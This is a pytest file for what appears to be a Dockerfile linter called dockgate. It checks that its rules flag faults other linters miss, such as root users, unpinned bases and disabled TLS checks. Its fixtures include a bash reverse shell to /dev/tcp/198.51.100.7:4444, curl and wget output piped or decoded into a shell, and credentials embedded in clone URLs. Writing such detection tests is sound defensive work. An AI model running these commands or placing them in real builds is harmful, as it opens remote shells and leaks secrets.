"""What other linters get wrong, as runs of them have shown: here it must be right.

hadolint 2.15.1, tally 0.45.0, Checkov, KICS, BuildKit's own check, dockerfile-hardener.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from dockgate.rules.registry import rules_of
from dockgate.rules.rule import Finding, Rule
from tests.rules.subjects import read, run

TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"  # of GitHub's documentation
DIGEST = "@sha256:" + 64 * "a"


def enabled() -> list[Rule[Any]]:
    """The rules that speak when nobody has chosen any."""
    return [rule for rule in rules_of("dockerfile").values() if rule.enabled]


def said(source: str) -> list[tuple[str, int, int]]:
    """Rule, line and column of all findings."""
    dockerfile = read(source)
    found = run(enabled(), dockerfile)
    places = [(f.rule.name, dockerfile.text.position(f.span.start)) for f in found if f.span]
    return [(name, at.line, at.column) for name, at in places]


def names(source: str) -> set[str]:
    return {name for name, _, _ in said(source)}


def test_an_error_does_not_hide_the_rest() -> None:
    """hadolint: one parse error, and no other finding of the file is shown."""
    found = said("FROM debian\nRNU true\nRUN curl -k https://x.org/ | sh\nUSER 0\n")
    wanted = {
        ("unpinned-base", 1),
        ("syntax-error", 2),
        ("tls-verification-disabled", 3),
        ("curl-pipe-shell", 3),
        ("root-user", 4),
    }
    assert wanted <= {(name, line) for name, line, _ in found}


@pytest.mark.parametrize("after", ["# a comment\nUSER 0\n", "USER 0\n", "\nUSER 0\n"])
def test_what_follows_a_heredoc_is_read(after: str) -> None:
    """hadolint: dies when a comment or an instruction follows a heredoc's end."""
    source = f"FROM debian:12\nRUN <<EOF\nsudo true\nEOF\n{after}"
    assert {"sudo", "root-user"} <= names(source)
    assert "syntax-error" not in names(source)


def test_a_heredoc_with_a_shebang_is_read_as_that_shell() -> None:
    """hadolint: reads a bash heredoc as POSIX sh."""
    source = (
        "FROM debian:12\nRUN <<EOF\n#!/usr/bin/env bash\n[[ -e x ]] || bash <(curl x.org)\nEOF\n"
    )
    assert ("curl-pipe-shell", 4, 15) in said(source)
    python = "FROM debian:12\nRUN <<EOF\n#!/usr/bin/env python3\nsudo = 1\nEOF\n"
    assert "sudo" not in names(python)


def test_a_fault_far_down_in_a_run_has_its_own_line_and_column() -> None:
    """hadolint: always the RUN's first line, always column 1."""
    source = "FROM debian:12\nRUN set -eux; \\\n  # why\n  true; \\\n  curl -sSk https://x.org/a\n"
    assert ("tls-verification-disabled", 5, 8) in said(source)


def test_builder_stages_may_be_root() -> None:
    """hadolint: DL3002 on stages that never run."""
    source = "FROM debian:12 AS build\nUSER root\nRUN true\nFROM debian:12\nUSER 1000\n"
    assert "root-user" not in names(source)


@pytest.mark.parametrize(
    "source",
    [
        "ARG V=latest\nFROM ruby:${V}\n",
        "ARG V\nARG IMAGE=ruby\nFROM $IMAGE\n",
        "FROM alpine:3.20\nCOPY --from=ruby:latest /a /a\n",
    ],
)
def test_a_tag_that_comes_from_an_arg_is_seen(source: str) -> None:
    """hadolint and tally: silent."""
    assert "unpinned-base" in names(source)


@pytest.mark.parametrize("user", ["0", "0:0", "00", "root:app", "'root'", "root:0", "+0"])
def test_every_spelling_of_root_is_root(user: str) -> None:
    """hadolint: silent on 0:0; Checkov and KICS compare with the word `root`."""
    assert "root-user" in names(f"FROM debian:12\nUSER {user}\n")


@pytest.mark.parametrize("user", ["1000:0", "rooty", "app:root", "toor", "1", "0x"])
def test_what_only_looks_like_root_is_not(user: str) -> None:
    assert "root-user" not in names(f"FROM debian:12\nUSER {user}\n")


def test_no_user_at_all_is_seen() -> None:
    """hadolint and tally: silent."""
    assert "missing-user" in names('FROM debian:12\nCMD ["app"]\n')


def test_pipefail_does_not_make_an_unseen_script_good() -> None:
    """hadolint: content with curl | bash once pipefail is set."""
    source = 'FROM debian:12\nSHELL ["/bin/bash", "-eo", "pipefail", "-c"]\nRUN curl x.org | bash\n'
    assert ("curl-pipe-shell", 3, 18) in said(source)


def test_an_insecure_download_is_seen() -> None:
    """hadolint and tally: silent on -k."""
    assert "tls-verification-disabled" in names("FROM debian:12\nRUN curl -k https://x.org/\n")


@pytest.mark.parametrize(
    ("line", "rule", "column"),
    [
        (f"RUN git clone https://{TOKEN}@github.com/x/y", "secret-in-run", 23),
        ("ENV X=AKIAIOSFODNN7EXAMPLE", "secret-in-env", 7),
        ("ENV X=AKIAQ3EGTPZX7Y2LMNOP", "secret-in-env", 7),
        ("COPY .env /app/", "secret-file-copied", 6),
        ("COPY id_rsa /root/.ssh/", "secret-file-copied", 6),
        ("RUN git clone https://user:password@github.com/x/y", "secret-in-run", 28),
        ("COPY . .", "copy-everything", 6),
        ("RUN make && RUN make install", "instruction-in-run", 13),
        ("RUN <<EOF\nmake\nmake install\nEOF", "heredoc-without-errexit", 5),
        ("RUN bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell", 5),
        ("RUN wget -qO- https://x.org/s.sh | base64 -d | sh", "decoded-script-run", 48),
    ],
)  # fmt: skip
def test_what_hadolint_does_not_see(line: str, rule: str, column: int) -> None:
    """hadolint: silent on each; tally: on .env copies."""
    assert (rule, 2, column) in said(f"FROM debian:12\n{line}\n")


@pytest.mark.parametrize(
    "fetch",
    [
        "curl -fsSL https://x.org/a.tar.gz | tar xz",
        "wget -q https://x.org/a.tar.gz && tar xzf a.tar.gz",
        "curl -fsSLo /a.deb https://x.org/a.deb && dpkg -i /a.deb",
    ],
)
def test_an_unverified_archive_is_seen(fetch: str) -> None:
    """hadolint: silent."""
    assert "download-without-checksum" in names(f"FROM debian:12\nRUN {fetch}\n")


def test_a_dead_base_stops_nothing() -> None:
    """BuildKit's --check: needs the base to be reachable, and stops early otherwise."""
    source = "FROM registry.invalid/nowhere:1\nMAINTAINER me\nCMD app\n"
    assert {"maintainer-deprecated", "shell-form-command"} <= names(source)


def test_a_missing_file_is_one_line(tmp_path: Path) -> None:
    """hadolint: a backtrace."""
    command = [sys.executable, "-m", "dockgate", "lint", str(tmp_path / "Dockerfile")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode in (2, 3)
    assert len(done.stderr.splitlines()) == 1
    assert "Traceback" not in done.stderr


def test_several_stages_are_suggested_without_an_agent() -> None:
    """tally: its multi-stage fix asks an AI agent."""
    source = 'FROM golang:1.23\nCOPY . /src\nRUN go build -o /app /src\nCMD ["/app"]\n'
    assert "build-tools-in-final-stage" in names(source)


@pytest.mark.parametrize(
    "line",
    [
        "RUN cd /src && make -C x; ls",  # DL3003: the RUN is no one folder's
        "RUN find / -name x | sort > /list",  # DL4006: under dash pipefail breaks the build
        "RUN ps aux; ssh -V",  # DL3001: they work
    ],
)
def test_what_reads_well_is_left_alone(line: str) -> None:
    topics = {rule.name for rule in enabled() if rule.topic == "shell"}
    assert names(f"FROM debian:12\n{line}\n").isdisjoint(topics)


def test_a_missing_digest_is_seen() -> None:
    """hadolint and tally: silent."""
    assert "unpinned-base-digest" in names("FROM debian:12\n")
    assert "unpinned-base-digest" not in names(f"FROM debian:12{DIGEST}\n")


def test_versions_of_packages_are_not_asked_for() -> None:
    """36 % of what hadolint says, and what its users switch off."""
    source = (
        f"FROM debian:12{DIGEST}\n"
        "RUN apt-get update && apt-get install -y --no-install-recommends curl git"
        " && rm -rf /var/lib/apt/lists/*\nUSER 1000\nHEALTHCHECK NONE\n"
    )
    assert said(source) == []


def safe_fixes(source: str) -> list[Finding]:
    found = run(enabled(), read(source))
    return [finding for finding in found if any(fix.safe for fix in finding.fixes)]


@pytest.mark.parametrize(
    "source",
    [
        # dockerfile-hardener puts `set -o pipefail` under dash, and guesses a port to ask
        "FROM debian:12\nRUN curl -fsSL https://x.org/a | tar xz\nEXPOSE 8080\nCMD app\n",
        # a shell form that may rely on its shell
        "FROM debian:12\nCMD app $PORT\nENTRYPOINT exec app\n",
        # unpacked, so no COPY; perhaps unpacked, so not safely one
        "FROM debian:12\nADD a.tar.gz /\nADD rootfs /\n",
        # no base is invented, no USER that does not exist
        "FROM debian\nUSER root\n",
    ],
)
def test_a_fix_that_may_break_a_build_is_never_called_safe(source: str) -> None:
    assert safe_fixes(source) == []
